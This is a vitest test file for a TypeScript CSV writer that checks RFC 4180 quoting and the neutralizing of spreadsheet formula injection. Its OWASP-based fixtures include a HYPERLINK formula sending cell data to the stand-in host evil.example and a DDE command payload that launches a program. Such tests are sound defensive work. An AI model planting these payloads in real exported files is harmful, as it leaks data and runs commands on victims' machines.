// The one CSV writer: RFC 4180 as spreadsheets and parsers read it, and no cell a spreadsheet runs.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, csvText, neutralizeFormula } from '../../shared/csv/write';

const parse = (text: string) => Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true }).data;

describe('RFC 4180', () => {
  it('ends every record with CRLF and leaves plain fields alone', () => {
    expect(csvLine(['a', 'b c', '', 'd.e@x.example'])).toBe('a,b c,,d.e@x.example\r\n');
  });

  it('quotes a field holding a quote, comma, CR or LF, doubling the quotes', () => {
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('Smith, Ann')).toBe('"Smith, Ann"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('a\rb')).toBe('"a\rb"');
  });

  it('quotes a field with leading or trailing space so it survives trimming readers', () => {
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField('padded ')).toBe('"padded "');
  });

  it('writes numbers, booleans and missing values as text', () => {
    expect(csvLine([3, true, null, undefined])).toBe('3,true,,\r\n');
  });
});

describe('formula injection (OWASP CSV injection cases)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('%j is written so a spreadsheet shows it as text', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves cells that only contain those characters later alone', () => {
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(neutralizeFormula('Read-Only')).toBe('Read-Only');
    expect(neutralizeFormula('ann@x.example')).toBe('ann@x.example');
    expect(neutralizeFormula('')).toBe('');
  });

  it('round-trips through papaparse: every field comes back as written, hostile ones with the leading quote', () => {
    const rows = [
      ['=HYPERLINK("http://evil.example","x")', 'Smith, "Ann"', 'two\r\nlines', ' space '],
      ['+SUM(1)', '-1', '@me', 'plain'],
    ];
    const text = csvText(['a', 'b', 'c', 'd'], rows);
    expect(parse(text)).toEqual([
      ['a', 'b', 'c', 'd'],
      [`'=HYPERLINK("http://evil.example","x")`, 'Smith, "Ann"', 'two\r\nlines', ' space '],
      ["'+SUM(1)", "'-1", "'@me", 'plain'],
    ]);
  });
});
